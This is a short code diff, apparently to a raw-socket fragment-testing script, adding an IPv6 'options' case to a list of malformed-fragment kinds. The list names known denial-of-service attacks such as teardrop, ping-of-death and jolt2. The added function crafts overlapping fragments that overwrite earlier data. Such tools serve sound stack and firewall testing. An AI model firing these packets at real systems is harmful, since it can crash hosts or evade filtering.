@@ -16,7 +16,7 @@ family = socket.AF_INET6 if ipv6 else socket.AF_INET
 wire = socket.socket(family, socket.SOCK_RAW, 44 if ipv6 else socket.IPPROTO_RAW)
 
 ICMP, TCP, UDP = 58 if ipv6 else 1, 6, 17
-KINDS = "teardrop", "overlap", "ping-of-death", "jolt2", "duplicate", "tiny", "disorder"
+KINDS = "teardrop", "overlap", "ping-of-death", "jolt2", "duplicate", "tiny", "disorder", "options"
 
 
 def send(number, protocol, offset, more, data):
@@ -73,6 +73,12 @@ def tiny(number):
     segment = syn(number)
     send(number, TCP, 0, 1, segment[:8])
     send(number, TCP, 8, 0, segment[8:])
+
+
+def options(number):
+    """IPv6: the first fragment holds destination options besides UDP; the second one rewrites its last 8 octets."""
+    send(number, 60, 0, 1, struct.pack("!BBBBI", UDP, 0, 1, 4, 0) + udp(64)[:16])
+    send(number, 60, 16, 0, bytes(8))
 
 
 def disorder(number):
